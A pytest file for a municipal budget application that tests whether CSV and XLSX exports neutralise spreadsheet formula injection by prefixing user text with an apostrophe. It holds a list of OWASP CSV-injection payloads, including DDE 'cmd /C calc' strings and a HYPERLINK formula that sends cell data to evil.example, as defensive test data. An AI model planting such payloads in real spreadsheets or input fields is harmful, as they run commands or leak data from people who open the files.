"""Every CSV and XLSX the project writes shows user text as text: no cell is a formula.

The OWASP "CSV injection" payloads go into an entry text, a partner name (a report column),
the plan name and the focus-area and activity names; every CSV and XLSX download must then
carry them with a leading apostrophe (never as a cell starting with =, +, -, @, tab or line
break, never as an XLSX formula cell), while numbers such as -504 stay numbers, and the
entries export imported again gives back the exact texts. A new CSV/XLSX writer belongs in
`spreadsheet_urls` below and must use app.services.spreadsheet_text.
"""

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.orm import Session

from app.models import Entry, MasterPlan
from app.services.imports import import_entries
from app.services.ledger import EntryInput, book_entry
from app.services.spreadsheet_text import cell_text
from tests.imports.conftest import create_structure

# OWASP CSV Injection payloads (https://owasp.org/www-community/attacks/CSV_Injection).
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik her\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+2\";=1+2",
    "\t=1+2",
    "\r=1+2",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "＝1+2",
    "'=1+2",
]
NUMBER = re.compile(r"-?\d{1,3}(\.\d{3})*(,\d{2})?")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def spreadsheet_urls(plan: MasterPlan, municipality_id: int) -> list[str]:
    """Every CSV and XLSX the API writes for a plan and its municipality."""
    base = f"/api/plans/{plan.slug}"
    return [
        f"{base}/entries/export?format=csv",
        f"{base}/entries/export?format=xlsx",
        f"{base}/reports/cofinancing?format=csv&form=partners",
        f"{base}/reports/cofinancing?format=xlsx&form=partners",
        f"{base}/reports/cofinancing?format=csv&form=slagelse&by_focus_area=true",
        f"{base}/reports/cofinancing?format=xlsx&form=budget-actual&by_focus_area=true",
        f"{base}/reports/lbf-package?year=2019&format=xlsx",
        f"/api/partners/{municipality_id}/reports/council?format=csv",
    ]


def _plant(db: Session, plan: MasterPlan, payload: str) -> None:
    """The payload in an entry text and in every name the exports print."""
    params = {"p": plan.id, "n": payload, "m": plan.municipality_id}
    db.execute(text("UPDATE plans SET name = :n WHERE id = :p"), params)
    db.execute(text("UPDATE partners SET name = :n || ' Kommune' WHERE id = :m"), params)
    db.execute(text("UPDATE focus_areas SET name = :n || id WHERE plan_id = :p"), params)
    db.execute(text("UPDATE activities SET name = :n || id WHERE plan_id = :p"), params)
    book_entry(db, plan, EntryInput(2019, plan.municipality_id, "actual", "cash", -50_400, None,
                                    payload))  # fmt: skip
    db.commit()


def _cells(response) -> list[tuple[object, bool]]:  # type: ignore[no-untyped-def]
    """(value, is_formula) of every cell of a CSV or XLSX answer."""
    if response.mimetype == "text/csv":
        rows = csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";")
        return [(value, False) for row in rows for value in row]
    book = load_workbook(io.BytesIO(response.data))
    return [
        (cell.value, cell.data_type == "f")
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_csv_or_xlsx_cell_starts_a_formula(client, db, slagelse, payload: str) -> None:
    _plant(db, slagelse, payload)
    for url in spreadsheet_urls(slagelse, slagelse.municipality_id):
        response = client.get(url)
        assert response.status_code == 200, (url, response.get_data(as_text=True)[:300])
        cells = _cells(response)
        texts = [v for v, formula in cells if isinstance(v, str) and not formula]
        assert any(payload.strip() in v for v in texts), url
        for value in texts:
            if value.startswith(FORMULA_STARTS):
                assert NUMBER.fullmatch(value), f"{url}: {value!r} starts a formula"
        formulas = [v for v, formula in cells if formula]
        assert all(str(v).startswith(("=SUM(", "=B", "=C", "=D", "=E")) for v in formulas), url
        assert not any(payload in str(v) for v in formulas), url


def test_numbers_stay_numbers(client, db, slagelse) -> None:
    _plant(db, slagelse, PAYLOADS[0])
    exported = client.get(f"/api/plans/{slagelse.slug}/entries/export?format=csv")
    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig")), delimiter=";"))
    assert ["-504", f"'{PAYLOADS[0]}"] == rows[-1][6:8]
    workbook = client.get(f"/api/plans/{slagelse.slug}/entries/export?format=xlsx")
    last = list(load_workbook(io.BytesIO(workbook.data)).active.iter_rows(values_only=True))[-1]
    assert last[6] == -504 and last[7] == f"'{PAYLOADS[0]}"
    assert cell_text("-1.225.000,50") == "-1.225.000,50" and cell_text(-504) == -504
    assert cell_text("-504 kr. tilbage") == "'-504 kr. tilbage"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_payload_texts_come_back_exactly(
    client, db, slagelse, second_db, fmt: str
) -> None:
    """The apostrophe is the export's, not the text's: importing gives back the texts."""
    for payload in PAYLOADS:
        book_entry(db, slagelse, EntryInput(2019, "Slagelse Kommune", "actual", "cash", 100,
                                            None, payload))  # fmt: skip
    db.commit()
    data = client.get(f"/api/plans/{slagelse.slug}/entries/export?format={fmt}").data
    create_structure(second_db)
    second_db.commit()
    result = import_entries(second_db, data, fmt=fmt, commit=True)
    assert result.ok, result.errors[:3]
    second_db.commit()
    texts = set(second_db.scalars(text("SELECT text FROM entries")))
    clean = {p.strip() for p in PAYLOADS}
    assert clean <= texts
    assert {e.text for e in db.query(Entry).filter(Entry.amount_ore == 100)} == clean
